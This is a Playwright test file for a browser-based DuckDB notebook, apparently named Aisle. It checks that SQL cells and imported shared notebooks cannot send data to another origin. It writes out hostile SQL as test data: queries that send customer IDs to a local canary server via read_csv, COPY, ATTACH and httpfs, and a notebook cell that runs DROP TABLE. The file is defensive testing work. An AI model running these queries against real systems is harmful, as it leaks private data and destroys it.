import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Page } from '@playwright/test';
import { expectSameOrigin, recordRequests } from './helpers.ts';

// A server on another port of this machine: another origin. Anything that reaches it is data sent away.
let canary: Server;
let canaryUrl = '';
const received: string[] = [];

test.beforeAll(async () => {
  canary = createServer((request, response) => {
    received.push(request.url ?? '');
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.end('id\n1\n');
  });
  await new Promise<void>((resolve) => canary.listen(0, '127.0.0.1', resolve));
  canaryUrl = `http://127.0.0.1:${(canary.address() as AddressInfo).port}`;
});

test.afterAll(async () => {
  await new Promise((resolve) => canary.close(resolve));
});

function cell(page: Page, name: string) {
  return page.locator(`[data-testid="cell"][data-cell-name="${name}"]`);
}

/** Every way a SQL cell could reach the network or the disk that issue #13 lists. */
function attacks(url: string): Record<string, string> {
  return {
    'read_csv of a URL': `SELECT * FROM read_csv('${url}/read_csv')`,
    'a URL as a table': `SELECT * FROM '${url}/bare.csv'`,
    read_text: `SELECT * FROM read_text('${url}/read_text')`,
    'a URL built from the data': `SET VARIABLE leak = '${url}/x?ids=' || (SELECT string_agg(DISTINCT CustomerID, '-') FROM (SELECT * FROM sales LIMIT 20)); SELECT * FROM read_csv(getvariable('leak'))`,
    ATTACH: `ATTACH '${url}/attach.db' AS remote`,
    'COPY … TO a URL': `COPY (SELECT * FROM sales LIMIT 5) TO '${url}/copy.csv'`,
    'LOAD httpfs': 'LOAD httpfs',
    'INSTALL then LOAD': 'INSTALL httpfs; LOAD httpfs',
    'switching external access back on': 'SET enable_external_access = true',
  };
}

test('no SQL a cell can write reaches another origin; each refusal says why in plain words', async ({ page }) => {
  const requests = recordRequests(page);
  await page.goto('?notebook=welcome');
  await expect(page.getByTestId('cell').first()).toBeVisible({ timeout: 45_000 });
  await expect(page.getByTestId('table-list')).toContainText('sales', { timeout: 45_000 });
  await page.getByTestId('add-cell').click();
  const name = (await page.locator('[data-testid="cell"]').last().getAttribute('data-cell-name'))!;
  for (const [attack, sql] of Object.entries(attacks(canaryUrl))) {
    await cell(page, name).locator('.cm-content').click();
    await page.keyboard.press('ControlOrMeta+a');
    await page.keyboard.insertText(sql);
    await page.keyboard.press('ControlOrMeta+Enter');
    const error = cell(page, name).getByTestId('cell-error');
    await expect(error, attack).toContainText(/SQL in Aisle cannot|is fixed by Aisle/, { timeout: 20_000 });
    await expect(cell(page, name)).toHaveAttribute('data-status', 'error');
  }
  // Give any request DuckDB's worker might have sent a moment to arrive.
  await page.waitForTimeout(500);
  expect(received).toEqual([]);
  expectSameOrigin(requests);
  await cell(page, name).screenshot({ path: 'test-results/privacy-refusal.png' });
  // The loaded data is still there and still queryable by name.
  await cell(page, name).locator('.cm-content').click();
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.insertText('SELECT count(*) AS n FROM sales');
  await page.keyboard.press('ControlOrMeta+Enter');
  await expect(cell(page, name).getByTestId('result-table').locator('tbody tr:not(.spacer) td:not(.index)').first()).toHaveText(/50,?000/);
});

test('a shared notebook that would send the data away does nothing on import, and reaches nothing when run', async ({ page }) => {
  const requests = recordRequests(page);
  await page.goto('');
  await expect(page.getByTestId('engine-status')).toContainText('DuckDB-WASM', { timeout: 30_000 });
  await expect(page.getByTestId('table-list')).toContainText('sales', { timeout: 45_000 });
  await expect(page.getByTestId('tagline')).toHaveText('retail analytics notebook · private, in your browser');
  const leak = `'${canaryUrl}/x?ids=' || (SELECT string_agg(DISTINCT CustomerID, '-') FROM (SELECT * FROM sales LIMIT 20))`;
  const hostile = [
    '---',
    'aisle: 1',
    'title: Quarterly numbers',
    '---',
    '',
    '```sql steal',
    `SET VARIABLE leak = ${leak}; SELECT * FROM read_csv(getvariable('leak'))`,
    '```',
    '',
    '```sql wipe',
    'DROP TABLE IF EXISTS sales CASCADE',
    '```',
    '',
  ].join('\n');
  await page.getByTestId('open-start').click();
  await page.getByTestId('import-input').setInputFiles({ name: 'quarterly.md', mimeType: 'text/markdown', buffer: Buffer.from(hostile) });
  // Opened, not run: the banner says what the SQL would do.
  const banner = page.getByTestId('untrusted-banner');
  await expect(banner).toContainText('read_csv');
  await expect(banner).toContainText('DROP');
  await expect(cell(page, 'steal')).toHaveAttribute('data-status', 'idle');
  await page.waitForTimeout(500);
  expect(received).toEqual([]);
  // Run anyway: DuckDB refuses the URL, the guard refuses the DROP, and each cell says why.
  await page.getByTestId('run-untrusted').click();
  await expect(cell(page, 'steal').getByTestId('cell-error')).toContainText('SQL in Aisle cannot reach the network', { timeout: 20_000 });
  await expect(cell(page, 'wipe').getByTestId('cell-error')).toContainText('"sales" is loaded data');
  await page.waitForTimeout(500);
  expect(received).toEqual([]);
  expectSameOrigin(requests);
  await expect(page.locator('[data-testid="table-item"][data-table="sales"]').getByTestId('table-rows')).toHaveText('50,000 rows');
});
